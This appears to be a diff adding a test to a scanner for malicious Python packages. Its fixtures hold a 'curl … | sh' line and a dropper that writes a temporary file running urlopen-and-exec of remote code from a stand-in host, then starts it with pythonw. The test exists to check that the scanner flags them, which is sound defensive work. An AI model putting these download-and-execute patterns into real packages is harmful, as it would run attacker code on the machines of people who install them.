@@ -323,3 +323,19 @@ def test_real_test_folders_still_lower_a_severity(tmp_path: Path) -> None:
     module = "import os\nos.system('curl https://canary.invalid/x | sh')\n"
     found = scan(tmp_path, {"pkg-1.0/tests/test_net.py": module})
     assert worst(found) <= Severity.MEDIUM
+
+
+def test_a_temporary_file_written_and_started_with_pythonw_is_a_second_stage(tmp_path: Path) -> None:
+    module = (
+        "from tempfile import NamedTemporaryFile as tmpfile\n"
+        "from sys import executable\nfrom os import system\n"
+        "def load():\n"
+        "    tmp = tmpfile(delete=False)\n"
+        "    tmp.write(b\"from urllib.request import urlopen;exec(urlopen('https://canary.invalid/raw').read())\")\n"
+        "    tmp.close()\n"
+        "    system(f\"start {executable.replace('.exe', 'w.exe')} {tmp.name}\")\n"
+        "load()\n"
+    )
+    found = scan(tmp_path, {"pkg-1.0/pkg/__init__.py": module})
+    assert worst(found, "code-dropped-exec") is Severity.CRITICAL
+    assert worst(found, "code-download-exec") >= Severity.HIGH
